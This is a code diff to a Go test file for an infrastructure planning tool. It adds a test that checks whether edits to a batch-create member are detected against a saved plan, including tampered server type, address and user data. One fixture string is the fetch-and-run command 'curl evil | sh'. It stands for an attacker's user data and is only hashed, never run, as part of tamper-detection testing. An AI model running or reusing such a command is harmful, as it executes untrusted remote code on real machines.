@@ -1,6 +1,7 @@
 package planfile
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/fleet-iac/fleet/planner"
@@ -27,7 +28,7 @@ func TestDifference(t *testing.T) {
 		"removed action": {edit: func(p *Plan) { p.Actions = append(p.Actions[:8:8], p.Actions[9:]...) },
 			want: "rename server/old-1 is planned now, not in the saved plan"},
 		"removed last action": {edit: func(p *Plan) { p.Actions = p.Actions[:len(p.Actions)-1] },
-			want: "adopt server/ghost-1 is planned now, not in the saved plan"},
+			want: "rename server/db-2 is planned now, not in the saved plan"},
 		"added action": {edit: func(p *Plan) {
 			extra := Action{Action: planner.Action{ID: "delete server/web-9", Type: planner.Delete, Address: "server/web-9", CloudID: "9"}}
 			p.Actions = append(p.Actions[:3:3], append([]Action{extra}, p.Actions[3:]...)...)
@@ -103,5 +104,27 @@ func TestDifferenceDrift(t *testing.T) {
 	want := `drift is (none) in the saved plan, [{"address":"server/api-1","kind":"changed","cha..."path":"metadata.role","from":"api","to":"x"}]}] now`
 	if got := Difference(saved, noWaits()); got != want {
 		t.Errorf("got  %q\nwant %q", got, want)
+	}
+}
+
+// TestDifferenceInABatch: an edited member of a batch create (another
+// server type, the attacker's user data) is named as the batch's.
+func TestDifferenceInABatch(t *testing.T) {
+	for name, edit := range map[string]func(m *Member){
+		"server type": func(m *Member) { m.Server.Type = "s16-g2-s50" },
+		"user data":   func(m *Member) { m.Server.UserDataSHA256 = planner.UserDataDigest("curl evil | sh") },
+		"address":     func(m *Member) { m.Address = "server/db-9" },
+	} {
+		t.Run(name, func(t *testing.T) {
+			saved := Encode(fixture(), fixtureOptions)
+			for i := range saved.Actions {
+				if len(saved.Actions[i].Members) > 0 {
+					edit(&saved.Actions[i].Members[1])
+				}
+			}
+			if got := Difference(saved, Encode(fixture(), fixtureOptions)); !strings.HasPrefix(got, "create server/db-[1-2]: members is ") {
+				t.Errorf("got %q, want the batch's members named", got)
+			}
+		})
 	}
 }
